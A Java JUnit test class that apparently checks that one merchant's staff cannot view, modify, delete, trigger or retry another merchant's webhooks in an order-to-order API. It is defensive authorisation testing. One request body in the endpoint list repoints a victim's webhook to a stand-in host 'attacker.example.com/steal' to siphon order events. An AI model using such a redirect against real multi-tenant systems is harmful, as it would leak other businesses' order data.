package o2o.webhooks;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

import o2o.testing.ApiTest;
import o2o.testing.CrossMerchantAccess;
import o2o.testing.CrossMerchantAccess.Endpoint;
import o2o.testing.CrossMerchantAccess.Victim;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;

/** Staff of one merchant can neither see nor change nor trigger another merchant's webhooks. */
class WebhookCrossMerchantAccessTests extends ApiTest {

    /** Every webhook endpoint of the API that names an object. */
    static final List<Function<Victim, Endpoint>> ENDPOINTS = List.of(
            v -> Endpoint.of("GET", v.fill("/api/v1/merchant/webhooks/{webhook}"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}")),
            v -> Endpoint.of("PUT", v.fill("/api/v1/merchant/webhooks/{webhook}"),
                    Map.of("url", "https://attacker.example.com/steal", "eventTypes", List.of("order.paid")),
                    v.fill("/api/v1/merchant/webhooks/{webhook}")),
            v -> Endpoint.of("DELETE", v.fill("/api/v1/merchant/webhooks/{webhook}"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}")),
            v -> Endpoint.of("POST", v.fill("/api/v1/merchant/webhooks/{webhook}/secret"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}")),
            v -> Endpoint.of("POST", v.fill("/api/v1/merchant/webhooks/{webhook}/test"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries")),
            v -> Endpoint.of("GET", v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries")),
            v -> Endpoint.of("POST", v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries/{delivery}/retry"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries")),
            // the attacker's own endpoint id with the victim's delivery
            v -> Endpoint.of("POST", v.fill("/api/v1/merchant/webhooks/{own}/deliveries/{delivery}/retry"), null,
                    v.fill("/api/v1/merchant/webhooks/{webhook}/deliveries")));

    @Test
    void anotherMerchantsStaffGetNotFoundForEveryWebhookEndpointAndChangeNothing() throws Exception {
        var a = fixtures.approvedMerchant("甲推送");
        var b = fixtures.approvedMerchant("乙推送");
        // B's endpoint has one failed delivery: refused 8 times, then the receiver is gone
        try (var receiver = new Receiver(500, 500, 500, 500, 500, 500, 500, 500)) {
            var created = api.post("/api/v1/merchant/webhooks",
                    OutgoingWebhookIntegrationTests.body(receiver.url(), List.of("order.paid")), b.ownerToken());
            var webhook = created.text("id");
            var own = api.post("/api/v1/merchant/webhooks",
                    OutgoingWebhookIntegrationTests.body(receiver.url(), List.of("order.paid")), a.ownerToken()).text("id");
            var delivery = api.post("/api/v1/merchant/webhooks/" + webhook + "/test", null, b.ownerToken()).text("id");
            for (int attempt = 1; attempt <= 8; attempt++) {
                receiver.awaitRequests(attempt);
                int expected = attempt;
                Awaitility.await().atMost(Duration.ofSeconds(20)).until(() -> api.get(
                        "/api/v1/merchant/webhooks/" + webhook + "/deliveries", b.ownerToken())
                        .body().get(0).path("attempts").asInt() == expected);
                clock.advance(Duration.ofHours(1));
            }
            var victim = new Victim(b.ownerToken(), Map.of("webhook", webhook, "delivery", delivery, "own", own));
            var access = new CrossMerchantAccess(api);
            for (var endpoint : ENDPOINTS) access.assertDenied(a.ownerToken(), victim, endpoint);

            assertThat(api.get("/api/v1/merchant/webhooks", a.ownerToken()).raw()).doesNotContain(webhook);
            assertThat(receiver.received()).as("nothing sent on the attacker's behalf").hasSize(8);
            var deliveries = api.get("/api/v1/merchant/webhooks/" + webhook + "/deliveries", b.ownerToken()).body();
            assertThat(deliveries.size()).isEqualTo(1);
            assertThat(deliveries.get(0).path("status").asString()).isEqualTo("FAILED");
        }
    }
}
